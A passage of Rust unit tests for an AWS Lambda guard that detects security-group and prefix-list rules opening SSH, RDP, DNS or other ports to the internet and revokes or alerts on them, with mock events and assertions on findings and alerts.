            .unevaluated
            .as_deref()
            .unwrap()
            .starts_with("requestParameters.ipPermissions: no rule to judge"));
        assert_eq!(
            report.findings[0].rule, "EC2-SG-003",
            "the group's current rules, judged"
        );
        assert!(report.plan.is_empty() && g.revoke_calls.lock().unwrap().is_empty());
        assert_eq!(sent.len(), 1);
        assert!(
            sent[0].subject.starts_with(
                "[ALERT] [CRITICAL] Could not evaluate AuthorizeSecurityGroupIngress on sg-1"
            ),
            "{}",
            sent[0].subject
        );
        assert!(sent[0].message.contains("COULD NOT EVALUATE"));
    }

    #[tokio::test]
    async fn a_trimmed_response_hides_no_rule_the_request_opened() {
        let g = groups(&[]);
        let policy = revoking();
        // The request opened 22 and 443; the response lists only 443.
        let trimmed = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1", "ipPermissions": {"items": [
                {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
                {"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}),
            json!({"securityGroupRuleSet": {"items": [item("sgr-https", 443)]}}),
            None,
        );
        let (report, _) = run(&g, &policy, &GuardSettings::default(), &trimmed).await;
        assert_eq!(
            results(&report.unwrap()),
            vec![("sgr-ssh".to_string(), OutcomeKind::Revoked)]
        );
        assert_eq!(ids(&g), vec!["sgr-https", "sgr-out"]);
    }

    #[tokio::test]
    async fn revoking_one_by_one_stops_before_the_deadline_and_leaves_the_rest_to_the_retry() {
        let mut g = groups(&[]);
        g.rules
            .lock()
            .unwrap()
            .push(stored("sgr-rdp", 3389, "0.0.0.0/0", Direction::Ingress));
        g.reject_batches = true;
        let event = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [item("sgr-ssh", 22), item("sgr-rdp", 3389)]}}),
            None,
        );
        let notifier = MemoryNotifier::default();
        let policy = revoking();
        let settings = GuardSettings::default();
        let guard = IngressGuard {
            groups: &g,
            organizations: None,
            remediator: &g,
            revocations: None,
            notifier: &notifier,
            policy: &policy,
            settings: &settings,
            deadline: Some(Instant::now() + Duration::from_secs(5)),
            visibility: None,
        };
        let err = guard.handle(&event, TODAY).await.unwrap_err();
        assert_eq!(err.error_type(), "AccessGuard.AwsRetryable");
        assert!(err.to_string().contains("2 of 2 rules left"), "{err}");
        assert_eq!(*g.revoke_calls.lock().unwrap(), ["sg-1/sgr-ssh,sgr-rdp"]);
        assert!(notifier.sent.lock().unwrap().is_empty(), "the retry alerts");
    }
    fn listed(id: &str, port: i64, list: &str) -> SgRule {
        SgRule {
            source: Source::PrefixList(list.to_string()),
            ..stored(id, port, "0.0.0.0/0", Direction::Ingress)
        }
    }

    fn list_item(id: &str, port: i64, list: &str) -> Value {
        json!({"groupId": "sg-1", "securityGroupRuleId": id, "isEgress": false, "ipProtocol": "tcp",
               "fromPort": port, "toPort": port, "prefixListId": list})
    }

    fn through(list: &str) -> Event {
        event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [list_item("sgr-pl", 22, list)]}}),
            None,
        )
    }

    fn holding(cidrs: &[&str]) -> Result<PrefixListEntries, AwsError> {
        Ok(PrefixListEntries::Read(
            cidrs.iter().map(|c| Source::cidr(c)).collect(),
        ))
    }

    fn rule_ids(report: &Report) -> Vec<&'static str> {
        report.findings.iter().map(|f| f.rule).collect()
    }

    #[tokio::test]
    async fn ssh_through_a_prefix_list_holding_the_internet_is_revoked_like_a_cidr_rule() {
        let mut g = groups(&[]);
        g.rules
            .lock()
            .unwrap()
            .push(listed("sgr-pl", 22, "pl-world"));
        g.prefix_lists = vec![(
            "pl-world".to_string(),
            holding(&["198.51.100.0/24", "0.0.0.0/0"]),
        )];
        let (report, sent) = run(
            &g,
            &revoking(),
            &GuardSettings::default(),
            &through("pl-world"),
        )
        .await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-003", "EC2-SG-011"]);
        assert_eq!(
            report.findings[0].detail,
            "tcp 22 from prefix list pl-world (sgr-pl), which holds 0.0.0.0/0"
        );
        assert_eq!(
            results(&report),
            vec![("sgr-pl".to_string(), OutcomeKind::Revoked)]
        );
        assert!(!ids(&g).contains(&"sgr-pl".to_string()));
        assert_eq!(
            *g.prefix_list_reads.lock().unwrap(),
            ["pl-world", "pl-world"],
            "read to judge, and again right before revoking"
        );
        assert!(
            sent[0]
                .subject
                .starts_with("[REVOKED] [CRITICAL] SSH (22) open to the internet"),
            "{}",
            sent[0].subject
        );

        // An office list is not the internet: reported as a prefix-list source only.
        let mut g = groups(&[]);
        g.rules
            .lock()
            .unwrap()
            .push(listed("sgr-pl", 22, "pl-office"));
        g.prefix_lists = vec![("pl-office".to_string(), holding(&["198.51.100.0/24"]))];
        let (report, _) = run(
            &g,
            &revoking(),
            &GuardSettings::default(),
            &through("pl-office"),
        )
        .await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert!(report.plan.is_empty() && g.revoke_calls.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn an_unreadable_prefix_list_is_unknown_never_clean_and_nothing_is_revoked() {
        let mut g = groups(&[]);
        g.rules
            .lock()
            .unwrap()
            .push(listed("sgr-pl", 22, "pl-denied"));
        g.prefix_lists = vec![(
            "pl-denied".to_string(),
            Err(denied("GetManagedPrefixListEntries")),
        )];
        let (report, sent) = run(
            &g,
            &revoking(),
            &GuardSettings::default(),
            &through("pl-denied"),
        )
        .await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert_eq!(report.findings[0].severity, crate::finding::Severity::High);
        assert!(report.findings[0]
            .detail
            .ends_with("entries unknown, the list could not be read"));
        assert!(
            report
                .notes
                .iter()
                .any(|n| n.contains("UnauthorizedOperation")),
            "the code is said in the notes: {:?}",
            report.notes
        );
        assert!(report.plan.is_empty() && g.revoke_calls.lock().unwrap().is_empty());
        assert_eq!(sent.len(), 1, "unknown alerts");
        assert!(sent[0]
            .message
            .contains("could not read prefix list pl-denied (UnauthorizedOperation)"));

        // Throttled: the invocation fails and Lambda retries it.
        g.prefix_lists[0].1 = Err(AwsError {
            retryable: true,
            code: Some("RequestLimitExceeded".to_string()),
            ..denied("GetManagedPrefixListEntries")
        });
        let (result, sent) = run(
            &g,
            &revoking(),
            &GuardSettings::default(),
            &through("pl-denied"),
        )
        .await;
        assert!(matches!(result, Err(GuardError::Aws { .. })));
        assert!(sent.is_empty());
    }

    #[test]
    fn a_prefix_list_unreadable_right_before_revoking_is_not_revoked() {
        let policy = revoking();
        let planned = listed("sgr-pl", 22, "pl-world");
        let current = vec![planned.clone()];
        let mut group = SgChange::current_ingress("sg-1", Vec::new()).with_account("111122223333");
        let mut with = |entries: PrefixListEntries| {
            group.prefix_lists.insert("pl-world".to_string(), entries);
            recheck(&planned, &group, &current, &policy)
        };
        assert_eq!(
            with(PrefixListEntries::Read(vec![Source::cidr("0.0.0.0/0")])),
            Recheck::Offends("sgr-pl".to_string())
        );
        assert_eq!(
            with(PrefixListEntries::Unknown(
                "UnauthorizedOperation".to_string()
            )),
            Recheck::Unknown("UnauthorizedOperation".to_string())
        );
        assert!(matches!(
            with(PrefixListEntries::Read(vec![Source::cidr("10.0.0.0/8")])),
            Recheck::ChangedSince(_)
        ));
        assert!(matches!(
            with(PrefixListEntries::AwsManaged),
            Recheck::ChangedSince(_)
        ));
    }

    fn private_https(request: Value) -> Event {
        let item = json!({"groupId": "sg-1", "securityGroupRuleId": "sgr-int", "isEgress": false, "ipProtocol": "tcp",
               "fromPort": 443, "toPort": 443, "cidrIpv4": "10.0.0.0/8"});
        event(
            sg::AUTHORIZE_INGRESS,
            request,
            json!({"securityGroupRuleSet": {"items": [item]}}),
            None,
        )
    }

    #[tokio::test]
    async fn the_default_group_is_named_by_the_record_or_by_ec2() {
        let policy = revoking();
        let settings = GuardSettings::default();
        // Named by the record.
        let g = groups(&[]);
        let (report, sent) = run(
            &g,
            &policy,
            &settings,
            &private_https(json!({"groupId": "sg-1", "groupName": "default"})),
        )
        .await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-010"]);
        assert_eq!(
            report.findings[0].detail,
            "tcp 443 from 10.0.0.0/8 (sgr-int) in the default group"
        );
        assert!(report.plan.is_empty() && g.revoke_calls.lock().unwrap().is_empty());
        assert_eq!(sent.len(), 1);

        // Not named by the record: EC2 says it.
        let mut g = groups(&[]);
        g.info.as_mut().unwrap().name = "default".to_string();
        let (report, _) = run(
            &g,
            &policy,
            &settings,
            &private_https(json!({"groupId": "sg-1"})),
        )
        .await;
        assert_eq!(rule_ids(&report.unwrap()), ["EC2-SG-010"]);
        let g = groups(&[]);
        let (report, _) = run(
            &g,
            &policy,
            &settings,
            &private_https(json!({"groupId": "sg-1"})),
        )
        .await;
        let report = report.unwrap();
        assert!(report.findings.is_empty(), "named web");
        assert!(report.notes.is_empty(), "{:?}", report.notes);

        // EC2 does not say: unknown, and the report says so.
        let mut g = groups(&[]);
        g.group_error = Some(denied("DescribeSecurityGroups"));
        let (report, _) = run(
            &g,
            &policy,
            &settings,
            &private_https(json!({"groupId": "sg-1"})),
        )
        .await;
        let report = report.unwrap();
        // Unknown is reported under the rule (high: alerted), never "not default".
        let rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
        assert_eq!(rules, ["EC2-SG-010"]);
        assert!(
            report.findings[0].detail.ends_with(
                "whether the group is a VPC default group is unknown (its name could not be read)"
            ),
            "{}",
            report.findings[0].detail
        );
        assert!(report.plan.is_empty(), "nothing to revoke on an unknown");
        assert_eq!(
            report.notes,
            ["could not read sg-1's name (UnauthorizedOperation): whether it is a VPC default group (EC2-SG-010) is unknown"]
        );
        g.group_error = Some(AwsError {
            retryable: true,
            ..denied("DescribeSecurityGroups")
        });
        let (result, _) = run(
            &g,
            &policy,
            &settings,
            &private_https(json!({"groupId": "sg-1"})),
        )
        .await;
        assert!(result.is_err(), "retryable: Lambda retries");
    }

    #[tokio::test]
    async fn udp_amplification_is_alerted_and_never_revoked() {
        let g = groups(&[]);
        let item = json!({"groupId": "sg-1", "securityGroupRuleId": "sgr-dns", "isEgress": false, "ipProtocol": "udp",
               "fromPort": 53, "toPort": 53, "cidrIpv4": "0.0.0.0/0"});
        let dns = event(
            sg::AUTHORIZE_INGRESS,
            json!({"groupId": "sg-1"}),
            json!({"securityGroupRuleSet": {"items": [item]}}),
            None,
        );
        let (report, sent) = run(&g, &revoking(), &GuardSettings::default(), &dns).await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-008"]);
        assert!(report.plan.is_empty() && report.outcomes.is_empty());
        assert!(g.revoke_calls.lock().unwrap().is_empty());
        assert_eq!(sent.len(), 1);
        assert!(
            sent[0]
                .subject
                .starts_with("[ALERT] [HIGH] UDP amplification port open"),
            "{}",
            sent[0].subject
        );
    }

    #[tokio::test]
    async fn a_group_of_another_account_is_found_through_the_stored_rule() {
        let g = groups(&[]);
        g.rules.lock().unwrap().push(SgRule {
            source: Source::Group {
                group_id: Some("sg-9".to_string()),
                user_id: Some("444455556666".to_string()),
            },
            ..stored("sgr-peer", 5432, "0.0.0.0/0", Direction::Ingress)
        });
        let modify = event(
            sg::MODIFY_RULES,
            json!({"ModifySecurityGroupRulesRequest": {"GroupId": "sg-1", "SecurityGroupRule": {
                "SecurityGroupRuleId": "sgr-peer", "SecurityGroupRule": {"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "ReferencedGroupId": "sg-9"}}}}),
            json!({}),
            None,
        );
        let (report, _) = run(&g, &revoking(), &GuardSettings::default(), &modify).await;
        let report = report.unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert!(report.findings[0]
            .detail
            .ends_with("another account's group"));
    }

    fn add_to_list(add: Value) -> Event {
        event(
            sg::MODIFY_PREFIX_LIST,
            json!({"ModifyManagedPrefixListRequest": {"PrefixListId": "pl-1", "CurrentVersion": 3, "AddEntry": add}}),
            json!({"ModifyManagedPrefixListResponse": {"prefixList": {"prefixListId": "pl-1", "prefixListName": "partners"}}}),
            None,
        )
    }

    #[tokio::test]
    async fn a_prefix_list_that_now_holds_the_internet_alerts_with_the_groups_it_opens() {
        let policy = revoking();
        let settings = GuardSettings::default();
        let world = add_to_list(json!({"Description": "temp", "cidr": "0.0.0.0/0"}));
        let mut g = groups(&[]);
        g.associations = vec![(
            "pl-1".to_string(),
            vec!["sg-1".to_string(), "sg-2".to_string()],
        )];
        let (report, sent) = run(&g, &policy, &settings, &world).await;
        let report = report.unwrap();
        assert_eq!(
            report.resource.as_deref(),
            Some("prefix list pl-1 (partners)")
        );
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        let f = &report.findings[0];
        assert_eq!(
            (f.severity, f.action),
            (crate::finding::Severity::High, Action::Notify)
        );
        assert_eq!(
            f.detail,
            "prefix list pl-1 (partners) now holds 0.0.0.0/0: open to the internet through it: sg-1, sg-2 (every rule that references the list)"
        );
        assert!(report.plan.is_empty() && report.outcomes.is_empty());
        assert!(g.revoke_calls.lock().unwrap().is_empty(), "notify only");
        assert_eq!(sent.len(), 1);

        // Referenced by no group: reported at the rule's severity (medium: no alert).
        let g = groups(&[]);
        let (report, sent) = run(&g, &policy, &settings, &world).await;
        let report = report.unwrap();
        assert_eq!(
            report.findings[0].severity,
            crate::finding::Severity::Medium
        );
        assert!(report.findings[0]
            .detail
            .ends_with("no security group references it (yet)"));
        assert!(sent.is_empty());

        // The associations cannot be read: alerted as if groups referenced it.
        let mut g = groups(&[]);
        g.associations_error = Some(denied("GetManagedPrefixListAssociations"));
        let (report, sent) = run(&g, &policy, &settings, &world).await;
        let report = report.unwrap();
        assert_eq!(report.findings[0].severity, crate::finding::Severity::High);
        assert!(report.notes[0].starts_with(
            "could not read which security groups reference pl-1 (UnauthorizedOperation)"
        ));
        assert_eq!(sent.len(), 1);

        // A narrow entry opens nothing.
        let g = groups(&[]);
        let (report, sent) = run(
            &g,
            &policy,
            &settings,
            &add_to_list(json!([{"Cidr": "198.51.100.7/32"}])),
        )
        .await;
        assert!(report.unwrap().findings.is_empty());
        assert!(sent.is_empty());
    }

    #[tokio::test]
    async fn a_prefix_list_record_that_cannot_be_read_is_judged_by_the_list_as_it_is() {
        let mut g = groups(&[]);
        g.prefix_lists = vec![("pl-1".to_string(), holding(&["::/0"]))];
        g.associations = vec![("pl-1".to_string(), vec!["sg-1".to_string()])];
        let lost = add_to_list(json!([{"Description": "no cidr"}]));
        let (report, sent) = run(&g, &revoking(), &GuardSettings::default(), &lost).await;
        let report = report.unwrap();
        assert!(report
            .unevaluated
            .as_deref()
            .unwrap()
            .starts_with("requestParameters.ModifyManagedPrefixListRequest.AddEntry[0].Cidr"));
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert!(report.findings[0].detail.contains("now holds ::/0"));
        assert!(
            sent[0].subject.contains("Could not evaluate"),
            "{}",
            sent[0].subject
        );
    }

    #[test]
    fn offline_says_what_only_aws_can_tell() {
        let policy = Policy::embedded();
        // A prefix list change: the finding, and the groups are not read.
        let report =
            evaluate_offline(&add_to_list(json!({"cidr": "0.0.0.0/0"})), &policy, TODAY).unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert_eq!(report.findings[0].severity, crate::finding::Severity::High);
        assert_eq!(
            report.notes,
            ["which security groups reference pl-1 needs AWS (GetManagedPrefixListAssociations): not read offline"]
        );
        // The group's name and the prefix lists are unverified, not clean.
        let report = evaluate_offline(&through("pl-1"), &policy, TODAY).unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-011"]);
        assert_eq!(
            report.findings[0].detail,
            "tcp 22 from prefix list pl-1 (sgr-pl): entries not read"
        );
        assert_eq!(
            report.notes,
            [
                "the record does not name the group: whether sg-1 is a VPC default group (EC2-SG-010) is unverified; the Lambda reads its name with DescribeSecurityGroups",
                "prefix list pl-1 is not read offline: whether it holds the internet is unverified; the Lambda reads it with GetManagedPrefixListEntries",
            ]
        );
        // Named in the record: judged offline too.
        let report = evaluate_offline(
            &private_https(json!({"groupId": "sg-1", "groupName": "default"})),
            &policy,
            TODAY,
        )
        .unwrap();
        assert_eq!(rule_ids(&report), ["EC2-SG-010"]);
        assert!(report.notes.is_empty());
    }
    #[test]
    fn the_sample_events_give_the_catalog_rules_offline() {
        let policy = Policy::embedded();
        let cases: [(&str, &str, &[&str]); 6] = [
            (
                "sg-udp-dns-open.json",
                include_str!("../../../../events/sg-udp-dns-open.json"),
                &["EC2-SG-008"],
            ),
            (
                "sg-wide-public-cidr.json",
                include_str!("../../../../events/sg-wide-public-cidr.json"),
                &["EC2-SG-009"],
            ),
            (
                "sg-default-group-rule.json",
                include_str!("../../../../events/sg-default-group-rule.json"),
                &["EC2-SG-010"],
            ),
            (
                "sg-prefix-list-source.json",
                include_str!("../../../../events/sg-prefix-list-source.json"),
                &["EC2-SG-011"],
            ),
            (
                "sg-cross-account-group.json",
                include_str!("../../../../events/sg-cross-account-group.json"),
                &["EC2-SG-011"],
            ),
            (
                "sg-modify-prefix-list-adds-world.json",
                include_str!("../../../../events/sg-modify-prefix-list-adds-world.json"),
                &["EC2-SG-011"],
            ),
        ];
        for (name, text, want) in cases {
            let value: Value = serde_json::from_str(text).unwrap();
            let event = Event::from_value(&value, name).unwrap();
            let guard = crate::guards::REGISTRY.iter().find(|g| g.handles(&event));
            assert_eq!(guard.map(|g| g.function), Some("ingress-guard"), "{name}");
            let report = evaluate_offline(&event, &policy, TODAY).unwrap();
            assert_eq!(rule_ids(&report), want, "{name}: {:?}", report.findings);
            assert!(report.plan.is_empty(), "{name}: notify only");
        }
    }
}
